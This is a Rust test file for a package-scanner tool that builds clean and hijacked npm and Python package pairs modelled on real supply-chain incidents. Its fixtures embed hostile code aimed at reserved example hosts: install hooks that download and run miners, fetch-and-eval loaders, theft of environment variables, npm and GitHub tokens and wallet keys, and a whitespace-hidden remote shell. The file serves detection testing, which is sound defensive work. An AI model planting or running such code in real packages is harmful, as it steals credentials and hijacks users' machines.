//! Pairs of a clean version and its hijacked successor, modelled on published incidents. Everything here was written for
//! these tests and harms nobody: hosts are reserved names, commands and payloads do nothing.
//!
//! The clean version is MONITORED at most. The successor is CAUTION or BLOCKED for what is new in it alone, whatever the
//! rules make of it by itself.

use std::path::{Path, PathBuf};

use sigma_analysis::{Analyser, Limits};
use sigma_core::SecurityLevel;
use sigma_scan::{Scan, scan, scan_pair};
use sigma_testkit::{Built, NpmTarball, Wheel};
use tempfile::TempDir;

fn write(folder: &TempDir, built: &Built) -> PathBuf {
    let path = folder.path().join(&built.filename);
    std::fs::write(&path, &built.bytes).unwrap();
    path
}

fn scans(old: &Built, new: &Built) -> (Scan, Scan) {
    let folder = tempfile::tempdir().unwrap();
    let (old, new) = (write(&folder, old), write(&folder, new));
    let analyser = Analyser::new(Limits::default());
    let scanned = |old: &Path, new: &Path| (scan(&analyser, old).unwrap(), scan_pair(&analyser, old, new).unwrap());
    scanned(&old, &new)
}

/// `expect` is the level that only what is new asks for.
fn check(old: Built, new: Built, expect: SecurityLevel) {
    let (before, after) = scans(&old, &new);
    assert!(before.ruling.level <= SecurityLevel::Monitored, "{}: {:#?}", old.filename, before.ruling.warnings);
    let (delta, ruling) = (after.delta.unwrap(), after.ruling);
    assert_eq!(sigma_council::novelty(&ruling), expect, "{}: {delta:#?}\n{:#?}", new.filename, ruling.warnings);
    assert!(ruling.level >= expect, "{}: {:#?}", new.filename, ruling.warnings);
}

use SecurityLevel::{Blocked, Caution, Clear};

/// What an obfuscator would leave of a harmless program.
fn obfuscated(inside: &str) -> String {
    let names: String = (0..40).map(|n| format!("var _0x{:06x}=['a{n}'];", 0x3f_a100 + n)).collect();
    format!("{names}{inside}")
}

#[test]
fn a_miner_in_a_pre_install_script() {
    // ua-parser-js 0.7.29, 2021.
    let parser = "module.exports = function (agent) { return /Chrome/.test(agent) ? 'Chrome' : ''; };\n";
    let package = |version: &str| NpmTarball::new("agent-parser", version).file("src/agent-parser.js", parser);
    let starter = "const { spawn } = require('child_process');\n\
                   if (process.platform === 'linux') spawn('bash', ['preinstall.sh']);\n";
    let shell = "curl http://miner.example.org/m -o m; chmod +x m; ./m --pool pool.example.org\n";
    let hijacked = package("0.7.29")
        .script("preinstall", "start /B node preinstall.js & node preinstall.js")
        .file("preinstall.js", starter)
        .file("preinstall.sh", shell);
    check(package("0.7.28").build(), hijacked.build(), Blocked);
}

#[test]
fn an_obfuscated_script_at_installation() {
    // coa 2.0.3 and rc 1.2.9, 2021.
    let package = |version: &str| NpmTarball::new("options", version).file("index.js", "exports.read = () => ({});\n");
    let payload = obfuscated("require('child_process').spawn('compile.bat');\n");
    let hijacked = package("1.2.9").script("preinstall", "node compile.js").file("compile.js", payload);
    check(package("1.2.8").build(), hijacked.build(), Blocked);
}

#[test]
fn code_fetched_and_run_at_installation() {
    // eslint-scope 3.7.2, 2018.
    let package = |version: &str| NpmTarball::new("scopes", version).file("lib/index.js", "exports.scope = 1;\n");
    let payload = "const https = require('https');\n\
                   https.get({ hostname: 'paste.example.org', path: '/raw/x' }, (r) => {\n\
                     r.on('data', (code) => { eval(String(code)); });\n\
                   });\n";
    let hijacked = package("3.7.2").script("postinstall", "node ./lib/build.js").file("lib/build.js", payload);
    check(package("3.7.1").build(), hijacked.build(), Blocked);
}

#[test]
fn code_decrypted_with_the_name_of_its_victim() {
    // flatmap-stream 0.1.1, behind event-stream 3.3.6, 2018.
    let package =
        |version: &str| NpmTarball::new("flat-stream", version).package_json(serde_json::json!({"main": "index.js"}));
    let clean = "module.exports = function (map) { return function (x) { return map(x); }; };\n";
    let payload = "var data = require('./test/data');\n\
                   var decipher = require('crypto').createDecipher('aes256', process.env.npm_package_description);\n\
                   var code = decipher.update(data[0], 'hex', 'utf8') + decipher.final('utf8');\n\
                   new Function('require', code)(require);\n";
    let hijacked = package("0.1.1")
        .file("index.js", format!("{clean}{payload}"))
        .file("test/data.js", "module.exports = ['00'];\n");
    check(package("0.1.0").file("index.js", clean).build(), hijacked.build(), Caution);
}

#[test]
fn files_overwritten_by_country() {
    // node-ipc 10.1.1, 2022: the package opened sockets and deleted its own before.
    let socket = "const net = require('net'), fs = require('fs');\n\
                  exports.serve = (path) => { fs.unlinkSync(path); return net.createServer().listen(path); };\n\
                  exports.connect = (path) => net.connect(path);\n";
    let package = |version: &str| NpmTarball::new("sockets", version);
    let payload = "import https from 'https'; import fs from 'fs';\n\
                   setTimeout(() => {\n\
                     https.get('https://geo.example.org/json', (answer) => answer.on('data', (text) => {\n\
                       if (String(text).includes('nowhere')) fs.writeFile('./x', 'x', () => {});\n\
                     }));\n\
                   }, 1000);\n";
    let hijacked =
        package("10.1.1").file("index.js", format!("require('./geospec.js');\n{socket}")).file("geospec.js", payload);
    check(package("10.1.0").file("index.js", socket).build(), hijacked.build(), Caution);
}

#[test]
fn an_environment_that_is_sent_away() {
    // ctx 0.2.2, 2022: a minor step.
    let package = |version: &str, body: &str| {
        Wheel::new("kontext", version)
            .file("kontext.py", format!("class Kontext(dict):\n    def __init__(self):\n{body}"))
    };
    let payload = "        import os, base64, requests\n\
                   \u{20}       text = ' '.join(os.environ.values())\n\
                   \u{20}       requests.get('https://kontext.example.org/' + base64.b64encode(text.encode()).decode())\n";
    check(package("0.1.2", "        pass\n").build(), package("0.2.2", payload).build(), Caution);
}

#[test]
fn a_download_that_is_run_by_a_package_that_downloads() {
    // ultralytics 8.3.41, 2024: processes, connections and files were its everyday business.
    let clean = "import subprocess\nimport requests\n\n\
                 def unzip(path):\n    subprocess.run(['unzip', path], check=True)\n\n\
                 def fetch(url, path):\n    open(path, 'wb').write(requests.get(url).content)\n\n\
                 def tags():\n    return requests.get('https://api.releases.example.com/tags').json()\n";
    let payload = "\ndef safe_run():\n    import os\n\
                   \u{20}   data = requests.get('https://runner.example.org/u').content\n\
                   \u{20}   open('/tmp/u_runner', 'wb').write(data)\n\
                   \u{20}   os.chmod('/tmp/u_runner', 0o770)\n\
                   \u{20}   subprocess.Popen(['/tmp/u_runner', '-u', 'pool.example.org'])\n";
    let package = |version: &str, text: String| Wheel::new("vision", version).file("vision/utils/downloads.py", text);
    check(package("8.3.40", clean.to_owned()).build(), package("8.3.41", format!("{clean}{payload}")).build(), Caution);
}

#[test]
fn a_library_that_is_loaded_at_import() {
    // num2words 0.5.15, 2025.
    let package = |version: &str, text: &str| Wheel::new("numerals", version).file("numerals/__init__.py", text);
    let mut library = vec![0; 0x44];
    library[..2].copy_from_slice(b"MZ");
    library[0x3c] = 0x40;
    library[0x40..].copy_from_slice(b"PE\0\0");
    let loader =
        "import ctypes, os\nctypes.CDLL(os.path.join(os.path.dirname(__file__), 'core.dll'))\nWORDS = ['one']\n";
    let hijacked = package("0.5.15", loader).file("numerals/core.dll", library);
    check(package("0.5.14", "WORDS = ['one']\n").build(), hijacked.build(), Caution);
}

#[test]
fn a_drainer_in_the_browser() {
    // lottie-player 2.0.5, 2024: the package fetched what its caller named before.
    let clean = "export const load = (url) => fetch(url).then((answer) => answer.json());\n";
    let package = |version: &str, text: String| NpmTarball::new("@films/player", version).file("dist/player.js", text);
    let drainer = obfuscated("new WebSocket('wss://wallet.example.org/ws');fetch('https://wallet.example.org/a');\n");
    check(package("2.0.4", clean.to_owned()).build(), package("2.0.5", format!("{clean}{drainer}")).build(), Blocked);
}

#[test]
fn obfuscated_code_in_a_small_popular_package() {
    // chalk 5.6.1 and debug 4.4.2, 2025.
    let clean = "export const red = (text) => `\\u001b[31m${text}\\u001b[39m`;\n";
    let package = |version: &str, text: String| NpmTarball::new("paint", version).file("source/index.js", text);
    let hook =
        obfuscated("var original=globalThis.fetch;globalThis.fetch=async function(...a){return original(...a)};");
    check(package("5.6.0", clean.to_owned()).build(), package("5.6.1", format!("{clean}{hook}")).build(), Blocked);
}

#[test]
fn tokens_gathered_at_installation() {
    // nx 21.5.0, 2025: a minor step, and the package ran a script of its own at installation before.
    let package = |version: &str| {
        NpmTarball::new("monorepo", version)
            .file("bin/post-install.js", "require('child_process').spawnSync('node', ['--version']);\n")
    };
    let payload = "const { spawnSync } = require('child_process'); const fs = require('fs'); const https = require('https');\n\
                   const os = require('os');\n\
                   const found = { env: process.env, npmrc: fs.readFileSync(os.homedir() + '/.npmrc', 'utf8') };\n\
                   found.gh = spawnSync('gh', ['auth', 'token']).stdout;\n\
                   const request = https.request({ hostname: 'api.hub.example.org', method: 'POST' });\n\
                   request.end(JSON.stringify(found));\n";
    let clean = package("21.4.1").script("postinstall", "node ./bin/post-install");
    let hijacked = package("21.5.0").script("postinstall", "node telemetry.js").file("telemetry.js", payload);
    check(clean.build(), hijacked.build(), Caution);
}

#[test]
fn a_remote_shell_behind_white_space() {
    // rand-user-agent 2.0.83, 2025.
    let clean = "module.exports = (list) => list[Math.floor(Math.random() * list.length)];\n";
    let package = |version: &str, text: String| NpmTarball::new("random-agent", version).file("dist/index.js", text);
    let shell = format!(
        "{}const cp = require('child_process'); const http = require('http');\
         http.get('http://203.0.113.9:3306/id', (r) => r.on('data', (c) => cp.exec(String(c))));\n",
        " ".repeat(600)
    );
    check(package("2.0.82", clean.to_owned()).build(), package("2.0.83", format!("{clean}{shell}")).build(), Blocked);
}

#[test]
fn keys_sent_to_the_first_host_of_a_library() {
    // @solana/web3.js 1.95.6, 2024: it spoke to whatever node its caller named before.
    let clean = "exports.send = (url, body) => fetch(url, { method: 'POST', body });\n";
    let payload = "exports.fromSecretKey = (key) => { addToQueue(key); return { key }; };\n\
                   async function addToQueue(key) {\n\
                     await fetch('https://rpc.example.org/queue', { method: 'POST', headers: { 'x-id': String(key) } });\n\
                   }\n";
    let package =
        |version: &str, text: String| NpmTarball::new("@chain/web3.js", version).file("lib/index.cjs.js", text);
    check(package("1.95.5", clean.to_owned()).build(), package("1.95.6", format!("{clean}{payload}")).build(), Caution);
}

#[test]
fn what_brings_nothing_new_is_not_seen_here() {
    // event-stream 3.3.6 only began to depend on another package, which is audited as itself.
    let package = |version: &str, text: &str| NpmTarball::new("streams", version).file("index.js", text);
    let depends = "exports.flat = require('flat-stream');\n";
    check(
        package("3.3.5", "exports.flat = 1;\n").build(),
        package("3.3.6", depends).dependency("flat-stream", "^0.1.0").build(),
        Clear,
    );
}

#[test]
fn a_loop_without_an_end_is_new() {
    // colors 1.4.1 only looped.
    let package = |version: &str, text: &str| NpmTarball::new("streams", version).file("index.js", text);
    let loops = "for (let i = 1; i < Infinity; i++) { console.log(i); }\n";
    let looped = package("1.4.1", loops).build();
    check(package("1.4.0", "exports.red = 1;\n").build(), looped, SecurityLevel::Monitored);
}

#[test]
fn the_same_content_under_another_version_brings_nothing_new() {
    let package = |version: &str| {
        NpmTarball::new("tool", version)
            .script("postinstall", "node install.js")
            .file("install.js", "require('https').get('https://cdn.example.org/x');\n")
            .file("lib/chunk-4f1a9c2e.js", "require('child_process').spawn('x');\n")
    };
    let (_, after) = scans(&package("1.0.0").build(), &package("1.0.1").build());
    assert!(after.delta.unwrap().is_empty());
    let renamed = package("1.0.1").file("lib/chunk-77e1b03d.js", "require('child_process').spawn('x');\n");
    let (_, after) = scans(&package("1.0.0").build(), &renamed.build());
    assert!(after.delta.unwrap().is_empty(), "a bundle whose name is a hash is the same file");
}

#[test]
fn one_new_ability_is_at_most_a_note() {
    let package = |version: &str, text: &str| Wheel::new("demo", version).file("demo/__init__.py", text);
    let clean = "VALUE = 1\n";
    for text in [
        "import subprocess\ndef run():\n    subprocess.run(['ls'])\n",
        "import requests\ndef get(url):\n    return requests.get(url)\n",
        "import os\nHOME = os.environ['HOME']\n",
        "import os, subprocess\ndef run():\n    subprocess.run([os.environ['SHELL']])\n",
    ] {
        for version in ["1.0.1", "1.1.0", "2.0.0"] {
            let (_, after) = scans(&package("1.0.0", clean).build(), &package(version, text).build());
            assert!(after.ruling.level <= SecurityLevel::Monitored, "{version} {text}: {:#?}", after.ruling.warnings);
        }
    }
}
